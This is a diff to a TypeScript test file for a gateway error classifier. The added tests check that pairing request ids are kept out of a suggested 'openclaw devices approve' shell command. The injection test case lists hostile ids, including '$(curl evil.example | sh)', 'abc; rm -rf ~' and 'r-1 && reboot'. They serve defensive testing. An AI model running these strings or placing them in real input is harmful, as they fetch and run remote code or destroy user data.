@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { classifyBareClose, classifyGatewayError } from '../../../src/main/gateway/classify-gateway-error'
+import { classifyBareClose, classifyGatewayError, classifyStreamError, pairingApprovalCommand } from '../../../src/main/gateway/classify-gateway-error'
 import { loadRecordedRefusals } from '../../support/fake-gateway'
 import type { ErrorCode } from '../../../src/shared/errors'
 
@@ -68,5 +68,73 @@ describe('classification ignores message text', () => {
   it('bare closes', () => {
     expect(classifyBareClose({ code: 1013, reason: '' }, 'handshake').code).toBe('GATEWAY_UNAVAILABLE')
     expect(classifyBareClose({ code: 1008, reason: 'invalid request frame' }, 'handshake').code).toBe('CONNECTION_CLOSED')
+  })
+})
+
+describe('pairing request ids from the gateway are not trusted into a shell command', () => {
+  const pairing = (requestId: unknown) =>
+    classifyGatewayError({ code: 'NOT_PAIRED', message: 'pairing required', details: { code: 'PAIRING_REQUIRED', reason: 'not-paired', requestId } })
+
+  it.each(['6f1c2a3b-0d4e-4f5a-8b9c-0123456789ab', 'req_1.2:3-x', 'A'.repeat(128)])('a plain id (%s) goes into the approve command', (id) => {
+    const err = pairing(id)
+    expect(err.details.pairingRequestId).toBe(id)
+    expect(err.nextSteps[0]!.command).toBe(`openclaw devices approve ${id}`)
+  })
+
+  it.each([
+    ['a command substitution', '$(curl evil.example | sh)'],
+    ['a command separator', 'abc; rm -rf ~'],
+    ['a space', 'abc def'],
+    ['quotes', `a'b"c`],
+    ['a backtick', 'a`id`'],
+    ['a newline', 'abc\nrm -rf ~'],
+    ['an ESC sequence', 'abc\u001b[2J'],
+    ['too long', 'A'.repeat(129)],
+    ['empty', '']
+  ])('an id with %s falls back to `openclaw devices list` and is not kept', (_what, id) => {
+    const err = pairing(id)
+    expect(err.code).toBe('PAIRING_REQUIRED')
+    expect(err.details.pairingRequestId).toBeUndefined()
+    expect(err.nextSteps[0]!.command).toBe('openclaw devices list')
+    expect(JSON.stringify(err.nextSteps)).not.toContain(id === '' ? 'devices approve' : id)
+  })
+
+  it('a non-string id is ignored the same way', () => {
+    expect(pairing({ toString: 'x' }).nextSteps[0]!.command).toBe('openclaw devices list')
+  })
+
+  it('pairingApprovalCommand itself refuses an unsafe id', () => {
+    expect(pairingApprovalCommand('r-1')).toBe('openclaw devices approve r-1')
+    expect(pairingApprovalCommand('r-1 && reboot')).toBe('openclaw devices list')
+  })
+})
+
+describe('a refusal with an error that has no code', () => {
+  it('is GATEWAY_REJECTED and keeps the text for the record', () => {
+    const err = classifyGatewayError({ code: 'UNKNOWN', message: 'just a string' }, { method: 'connect' })
+    expect(err.code).toBe('GATEWAY_REJECTED')
+    expect(err.details.gatewayMessage).toBe('just a string')
+    expect(err.message).toMatch(/no code/)
+  })
+})
+
+describe('broken WebSocket streams (ws errors WS_ERR_*)', () => {
+  const MB32 = 32 * 1024 * 1024
+  it.each([
+    ['WS_ERR_UNSUPPORTED_MESSAGE_LENGTH', 'a message larger than 32 MB'],
+    ['WS_ERR_INVALID_UTF8', 'not valid UTF-8'],
+    ['WS_ERR_INVALID_OPCODE', 'unknown type'],
+    ['WS_ERR_UNEXPECTED_MASK', 'masked'],
+    ['WS_ERR_SOMETHING_NEW', 'a malformed frame']
+  ])('%s is a PROTOCOL_ERROR in plain words', (code, words) => {
+    const err = classifyStreamError({ code }, { close: { code: 1002, reason: '' }, phase: 'ready', maxMessageBytes: MB32 })
+    expect(err?.code).toBe('PROTOCOL_ERROR')
+    expect(err?.message).toMatch(/^The gateway sent data that is not valid WebSocket \(/)
+    expect(err?.message).toContain(words)
+    expect(err?.details).toMatchObject({ systemCode: code, closeCode: 1002 })
+  })
+  it('other errors are left to the close to explain', () => {
+    expect(classifyStreamError({ code: 'ECONNRESET' }, { phase: 'ready', maxMessageBytes: MB32 })).toBeUndefined()
+    expect(classifyStreamError(undefined, { phase: 'handshake', maxMessageBytes: MB32 })).toBeUndefined()
   })
 })
